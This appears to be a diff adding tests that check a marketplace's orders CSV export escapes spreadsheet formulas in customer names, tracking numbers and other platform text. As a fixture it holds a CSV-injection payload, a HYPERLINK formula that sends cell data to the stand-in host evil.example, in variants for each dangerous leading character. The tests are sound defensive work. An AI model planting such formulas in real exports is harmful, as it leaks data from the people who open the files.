@@ -1,3 +1,4 @@
+import fc from "fast-check";
 import { createTranslator } from "next-intl";
 import Papa from "papaparse";
 import { describe, expect, it } from "vitest";
@@ -7,7 +8,7 @@ import { orderSchema } from "@/lib/marketplace/schemas/order";
 import type { Order } from "@/lib/marketplace/schemas/order";
 import { catalogues } from "@/messages";
 import type { Messages } from "@/messages";
-import { exportDay, exportHead, exportLines } from "./export-csv";
+import { EXPORT_COLUMNS, exportDay, exportHead, exportLines } from "./export-csv";
 import type { ExportColumn } from "./export-csv";
 
 const order = (change: (order: Order) => void = () => {}): Order => {
@@ -67,5 +68,82 @@ describe("orders export CSV", () => {
     // 02:30 UTC on the 23rd: still the 22nd in São Paulo.
     expect(exportDay(new Date("2026-11-23T02:30:00.000Z"), SAO_PAULO)).toBe("2026-11-22");
     expect(exportDay(new Date("2026-11-23T02:30:00.000Z"), "UTC")).toBe("2026-11-23");
+  });
+});
+
+// OWASP "CSV injection": what a spreadsheet runs as a formula when a cell starts with it, written
+// out here rather than imported so the test does not share the rule it checks.
+const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
+/** Every dangerous first character, alone before the payload and followed by a line break. */
+const PAYLOADS = ["=", "+", "-", "@", "\t", "\r"].flatMap((start) => {
+  const formula = start + FORMULA.slice(1);
+  return [formula, `${formula}\n`, `${formula}\r\n`, `${formula}\nsecond line`, `${formula}\r\nsecond line`];
+});
+/** The columns whose text comes from the platform; the others are dates and numbers the dashboard writes. */
+const PLATFORM_TEXT: readonly ExportColumn[] = ["order", "status", "customer", "document", "currency", "deliveryStatus", "tracking"];
+const column = (name: ExportColumn) => EXPORT_COLUMNS.indexOf(name);
+const DELIMITERS: Record<Locale, string> = { "pt-BR": ";", en: "," };
+
+/** Every row of a file as a real CSV reader sees it, header included. */
+const cells = (text: string, locale: Locale) =>
+  Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { delimiter: DELIMITERS[locale], newline: "\r\n", skipEmptyLines: true }).data;
+
+/** An order whose platform text is `payload` wherever the platform could put a seller's customer's words. */
+const hostile = (payload: string) =>
+  order((o) => {
+    o.id = payload;
+    o.customer.name = payload;
+    for (const delivery of o.deliveries) {
+      delivery.status = payload;
+      delivery.shipping.tracking.number = payload;
+    }
+    o.amounts.discount.total = -1250;
+  });
+
+describe("orders export CSV: formulas", () => {
+  it.each(["pt-BR", "en"] as const)("in %s, no platform text reaches the spreadsheet as a formula, line breaks or not", (locale) => {
+    const [header, ...rows] = cells(file(locale, PAYLOADS.map(hostile)), locale);
+    expect(header).toHaveLength(EXPORT_COLUMNS.length);
+    expect(rows).toHaveLength(PAYLOADS.length);
+    rows.forEach((row, index) => {
+      expect(row).toHaveLength(EXPORT_COLUMNS.length);
+      for (const name of PLATFORM_TEXT) expect(row[column(name)], `${name} of ${JSON.stringify(PAYLOADS[index])}`).not.toMatch(FORMULA_START);
+      // The text itself is kept, behind the apostrophe that makes it text.
+      expect(row[column("customer")]).toBe(`'${PAYLOADS[index]}`);
+      expect(row[column("tracking")]).toBe(`'${PAYLOADS[index]}`);
+    });
+  });
+
+  it.each([
+    ["pt-BR", "-12,50", /^-?\d+,\d{2}$/],
+    ["en", "-12.50", /^-?\d+\.\d{2}$/],
+  ] as const)("in %s, the amounts the dashboard writes stay plain numbers, a negative one too", (locale, discount, number) => {
+    const [, row] = cells(file(locale, [hostile(PAYLOADS[0]!)]), locale);
+    expect(row![column("discount")]).toBe(discount);
+    for (const name of ["total", "freight", "discount", "commission", "items"] as const) expect(row![column(name)]).toMatch(name === "items" ? /^\d+$/ : number);
+  });
+
+  it("escapes the full-width signs some spreadsheets read as formulas", () => {
+    const payloads = ["\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"].map((start) => `${start}1+1`);
+    const [, ...rows] = cells(file("en", payloads.map(hostile)), "en");
+    expect(rows.map((row) => row[column("customer")])).toEqual(payloads.map((payload) => `'${payload}`));
+  });
+
+  it("reads back any customer name and tracking number as written, never as a formula", () => {
+    const text = fc.string({ unit: fc.constantFrom("a", "1", " ", "=", "+", "-", "@", "\t", "\r", "\n", '"', ",", ";", "'", "\uFF1D") });
+    fc.assert(
+      fc.property(text, text, fc.constantFrom<Locale>("pt-BR", "en"), (name, tracking, locale) => {
+        const written = order((o) => {
+          o.customer.name = name;
+          for (const delivery of o.deliveries) delivery.shipping.tracking.number = tracking;
+        });
+        const [, row] = cells(file(locale, [written]), locale);
+        expect(row).toHaveLength(EXPORT_COLUMNS.length);
+        const kept = (value: string) => (FORMULA_START.test(value) ? `'${value}` : value);
+        expect(row![column("customer")]).toBe(kept(name));
+        expect(row![column("tracking")]).toBe(kept(tracking));
+      }),
+    );
   });
 });
